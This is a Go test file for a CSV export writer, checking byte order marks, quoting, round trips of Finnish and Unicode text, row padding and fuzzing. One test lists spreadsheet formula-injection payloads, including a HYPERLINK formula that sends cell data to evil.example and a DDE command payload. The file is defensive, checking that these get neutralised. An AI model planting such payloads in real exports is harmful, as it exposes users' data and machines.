package transfer

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"reflect"
	"strings"
	"testing"
)

// readCSV parses what WriteCSV wrote the way an importer would, after checking and dropping the BOM.
func readCSV(t testing.TB, b []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(b, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("CSV does not start with a UTF-8 byte order mark: %q", b[:min(len(b), 10)])
	}
	records, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export: %v\n%q", err, rest)
	}
	return records
}

func writeCSV(t testing.TB, tab Table) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteCSV(&buf, tab); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestWriteCSVBytes(t *testing.T) {
	t.Parallel()
	got := string(writeCSV(t, Table{
		Header: []string{"Nimi", "Muistiinpano"},
		Rows: [][]Cell{
			{TextCell("Äijälä Oy, Tampere"), TextCell(`sanoi "hei"`)},
			{TextCell("Öljy; Åbo"), TextCell("rivi 1\nrivi 2")},
			{TextCell("=1+1")},
		},
	}))
	want := "\uFEFFNimi,Muistiinpano\r\n" +
		"\"Äijälä Oy, Tampere\",\"sanoi \"\"hei\"\"\"\r\n" +
		"\"Öljy; Åbo\",\"rivi 1\nrivi 2\"\r\n" +
		"'=1+1,\r\n"
	if got != want {
		t.Errorf("WriteCSV wrote\n%q\nwant\n%q", got, want)
	}
}

func TestWriteCSVRoundTrip(t *testing.T) {
	t.Parallel()
	header := []string{"Nimi", "Kaupunki", "Muistiinpano", "Summa"}
	rows := [][]string{
		{"Äijälä Oy", "Åbo, Finland", "sanoi \"hei\" ja lähti", "1 234,50 €"},
		{"Öljynen & Söderström", "Tampere", "rivi 1\nrivi 2\n\nrivi 4", ""},
		{" välilyönti alussa", "lopussa ", "puoli;piste", `""`},
		{"", "", "", ""},
		{"日本語テキスト", "emoji 🙂", "tab\tinside", "x"},
	}
	tab := Table{Header: header}
	for _, r := range rows {
		cells := make([]Cell, len(r))
		for i, s := range r {
			cells[i] = TextCell(s)
		}
		tab.Rows = append(tab.Rows, cells)
	}
	want := append([][]string{header}, rows...)
	if got := readCSV(t, writeCSV(t, tab)); !reflect.DeepEqual(got, want) {
		t.Errorf("round trip:\n got %q\nwant %q", got, want)
	}
}

func TestWriteCSVNeutralizes(t *testing.T) {
	t.Parallel()
	dangerous := []string{
		`=HYPERLINK("http://evil.example/?d="&A1,"Click")`,
		`=cmd|' /C calc'!A0`,
		"@SUM(1)",
		"-2+3",
		"+1+1",
		"\t=1+1",
		"\r=1+1",
		"+358 40 123 4567", // the phone-number rule: prefixed too
		"+46 8 123 456 78",
	}
	tab := Table{Header: []string{"=header", "Value"}}
	for i, s := range dangerous {
		tab.Rows = append(tab.Rows, []Cell{TextCell(fmt.Sprint(i)), TextCell(s)})
	}
	got := readCSV(t, writeCSV(t, tab))
	if got[0][0] != "'=header" {
		t.Errorf("header cell = %q, want it neutralised as '=header", got[0][0])
	}
	for i, s := range dangerous {
		if cell := got[i+1][1]; cell != "'"+s {
			t.Errorf("cell %q written as %q, want %q", s, cell, "'"+s)
		}
	}
}

func TestWriteCSVNumberCells(t *testing.T) {
	t.Parallel()
	tab := Table{
		Header: []string{"Amount"},
		Rows: [][]Cell{
			{NumberCell(-12.5, "-12,50")},    // a plain negative number stays a number
			{NumberCell(1234.5, "1 234,50")}, // not dangerous to begin with
			{NumberCell(0, "=0+1")},          // the text is what is written, so it is neutralised
			{NumberCell(-2, "-1-1")},
		},
	}
	got := readCSV(t, writeCSV(t, tab))
	want := [][]string{{"Amount"}, {"-12,50"}, {"1 234,50"}, {"'=0+1"}, {"'-1-1"}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("number cells: got %q, want %q", got, want)
	}
}

func TestWriteCSVShapes(t *testing.T) {
	t.Parallel()
	// A one-column export with an empty cell must not lose that record as a blank line.
	got := readCSV(t, writeCSV(t, Table{Header: []string{"Note"}, Rows: [][]Cell{{TextCell("")}, {TextCell("x")}}}))
	if want := [][]string{{"Note"}, {""}, {"x"}}; !reflect.DeepEqual(got, want) {
		t.Errorf("single column: got %q, want %q", got, want)
	}
	// A short row is padded, so every record has the header's number of fields.
	got = readCSV(t, writeCSV(t, Table{Header: []string{"a", "b", "c"}, Rows: [][]Cell{{TextCell("1")}}}))
	if want := [][]string{{"a", "b", "c"}, {"1", "", ""}}; !reflect.DeepEqual(got, want) {
		t.Errorf("short row: got %q, want %q", got, want)
	}
	err := WriteCSV(io.Discard, Table{Header: []string{"a"}, Rows: [][]Cell{{TextCell("1"), TextCell("2")}}})
	if err == nil || !strings.Contains(err.Error(), "row 1") {
		t.Errorf("a row wider than the header: err = %v, want an error naming row 1", err)
	}
}

// FuzzWriteCSV writes one arbitrary value between two others and reads it back: whatever the value
// holds, the record keeps its three fields and the value comes back as Neutralize made it.
func FuzzWriteCSV(f *testing.F) {
	for _, s := range []string{"", "a,b", `"`, "x\ny", "\r\n", "=1+1", " ", "\uFEFF", `a""b`, ";"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if strings.ContainsRune(s, '\r') {
			t.Skip("encoding/csv turns CR LF inside a field into LF; the writer keeps it")
		}
		got := readCSV(t, writeCSV(t, Table{Header: []string{"a", "b", "c"}, Rows: [][]Cell{{TextCell("x"), TextCell(s), TextCell("y")}}}))
		want := [][]string{{"a", "b", "c"}, {"x", Neutralize(s), "y"}}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("%q came back as %q", s, got)
		}
	})
}
